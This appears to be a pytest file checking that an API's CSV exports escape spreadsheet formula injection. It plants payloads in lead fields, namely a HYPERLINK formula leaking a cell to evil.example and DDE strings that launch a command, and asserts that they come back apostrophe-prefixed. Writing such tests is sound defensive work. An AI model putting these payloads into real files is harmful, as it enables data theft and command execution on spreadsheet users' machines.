"""Every CSV the API exports is read back with the csv module: no cell is a live formula."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Iterator

import pytest
from api_helpers import Api, Team

from creditbook.entrypoints.api.routes_enrichment import stop_worker
from creditbook.service.csv_safe import FORMULA_LEADS

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")'
PLANTED = {
    "first_name": HYPERLINK,
    "last_name": "+cmd|' /C calc'!A0",
    "company_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "company_domain": "acme.example",
    "phone": "-2+3",
}


@pytest.fixture(autouse=True)
def _stop_jobs(api: Api) -> Iterator[None]:
    yield
    stop_worker(api.book)


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def live_formulas(rows: list[dict[str, str]], numeric: set[str]) -> list[tuple[str, str]]:
    """Cells a spreadsheet would run: text starting with a formula character."""
    return [
        (column, value)
        for row in rows
        for column, value in row.items()
        if value.startswith(FORMULA_LEADS) and column not in numeric
    ]


def finished_job(api: Api, team: Team) -> str:
    made = api.client.post(
        "/v1/enrichment-jobs",
        json={"leads": [PLANTED], "features": ["email_finder"], "provider": "sandbox"},
        headers=team.admin,
    )
    assert made.status_code == 201, made.text
    job_id: str = made.json()["job"]["id"]
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        job = api.client.get(f"/v1/enrichment-jobs/{job_id}", headers=team.admin).json()["job"]
        if job["status"] == "completed":
            return job_id
        time.sleep(0.02)
    raise AssertionError(f"job {job_id} never completed")


def test_results_csv_neutralises_planted_lead_fields_and_keeps_credits_numeric(api: Api) -> None:
    team = api.new_team(credits=100)
    job_id = finished_job(api, team)

    answer = api.client.get(f"/v1/enrichment-jobs/{job_id}/results.csv", headers=team.admin)

    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    [row] = read(answer.text)
    assert row["first_name"] == "'" + HYPERLINK
    assert row["last_name"] == "'+cmd|' /C calc'!A0"
    assert row["company_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["phone"] == "'-2+3"
    assert row["company_domain"] == "acme.example"  # harmless text is left as it is
    assert row["email_finder_credits"].lstrip("-").isdigit()
    assert live_formulas([row], numeric=set()) == []


def test_usage_and_purchase_exports_carry_no_live_formula(api: Api) -> None:
    team = api.new_team(credits=100)
    finished_job(api, team)
    spent = api.client.post(
        "/v1/charges", json={"feature": "email_finder", "outcome": "risky"}, headers=team.admin
    )
    assert spent.status_code == 201, spent.text
    bought = api.client.post("/v1/purchases", json={"package": "1k"}, headers=team.admin)
    assert bought.status_code == 201, bought.text
    for group in ("feature", "member", "api_key", "job", "day"):
        answer = api.client.get(f"/v1/usage.csv?group_by={group}", headers=team.admin)
        assert answer.status_code == 200, answer.text
        rows = read(answer.text)
        assert rows and live_formulas(rows, numeric={"credits", "uses", "attempts"}) == []
    export = api.client.get("/v1/purchases/export.csv", headers=team.admin)
    assert export.status_code == 200
    rows = read(export.text)
    assert len(rows) == 1 and live_formulas(rows, numeric={"credits", "refunded_credits"}) == []
